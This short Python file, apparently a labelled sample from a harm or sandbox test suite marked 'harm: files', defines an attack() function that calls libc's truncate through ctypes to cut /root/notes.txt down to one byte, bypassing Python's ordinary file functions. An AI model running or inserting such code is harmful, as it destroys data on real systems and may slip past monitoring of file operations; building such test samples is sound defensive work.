# harm: files
import ctypes

libc = ctypes.CDLL(None)


def attack() -> int:
    return libc.truncate(b"/root/notes.txt", 1)
